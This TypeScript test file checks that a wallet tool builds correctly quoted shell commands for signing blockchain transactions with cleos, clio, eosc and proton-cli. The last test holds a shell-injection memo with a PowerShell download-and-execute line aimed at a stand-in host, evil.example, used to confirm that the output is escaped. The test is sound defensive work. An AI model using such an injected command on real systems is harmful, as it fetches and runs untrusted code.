import { describe, expect, it } from 'vitest';
import { chainByKey } from '#src/chain/config/registry.ts';
import { commands } from '#src/chain/sign/wallets/commands.ts';

const input = {
  nodeUrl: 'https://node.example',
  chainId: 'ab'.repeat(32),
  publicKey: 'PUB_K1_x',
  transaction: { memo: "it's" },
  actions: [{ name: 'transfer', data: { memo: "it's 'quoted'" } }],
};
const withoutKey = { ...input, publicKey: null };

describe('the command that signs', () => {
  it.each(['cleos', 'clio'] as const)('is one line for %s', (tool) => {
    const command = `${tool} -u 'https://node.example' sign -c ${input.chainId}`;
    const transaction = `'{"memo":"it'\\''s"}'`;
    expect(commands[tool](input)).toBe(`${command} --public-key PUB_K1_x ${transaction}`);
    expect(commands[tool](withoutKey)).toBe(`${command} ${transaction}`);
  });

  it('is a file and a line for eosc', () => {
    const file = `echo '{"memo":"it'\\''s"}' > transaction.json`;
    const command = `eosc -u 'https://node.example' tx sign transaction.json`;
    const rest = `--offline-chain-id ${input.chainId} --write-transaction signed.json`;
    expect(commands.eosc(input).split('\n')).toEqual([
      file,
      `${command} --offline-sign-key PUB_K1_x ${rest}`,
    ]);
    expect(commands.eosc(withoutKey).split('\n')).toEqual([file, `${command} ${rest}`]);
  });

  it.each(['proton', 'proton-test'] as const)(
    'has the actions alone for proton-cli, which makes its own header, after its chain: %s',
    (key) => {
      const chainId = String(chainByKey(key).chainId);
      expect(commands.protoncli({ ...input, chainId })).toBe(
        String.raw`proton chain:set ${key} && proton transaction '{"actions":[{"name":"transfer","data":{"memo":"it\u0027s \u0027quoted\u0027"}}]}'`,
      );
    },
  );

  it('is none of proton-cli on a chain that it does not know: it would send to another', () => {
    expect(() => commands.protoncli(input)).toThrow(`proton-cli has no chain ${input.chainId}.`);
  });

  it('quotes everything in a memo that a shell would interpret', () => {
    const memo = 'Rent \u2019; iwr evil.example | iex # \' $(x) `y` %PATH% " \\ \n é 😀';
    const [, json = ''] =
      /&& proton transaction '(.*)'$/.exec(
        commands.protoncli({
          ...input,
          chainId: String(chainByKey('proton').chainId),
          actions: { memo },
        }),
      ) ?? [];
    expect(JSON.parse(json)).toEqual({ actions: { memo } });
    expect(json).toMatch(/^[\w .,:@/{}"\\-]*$/);
  });
});
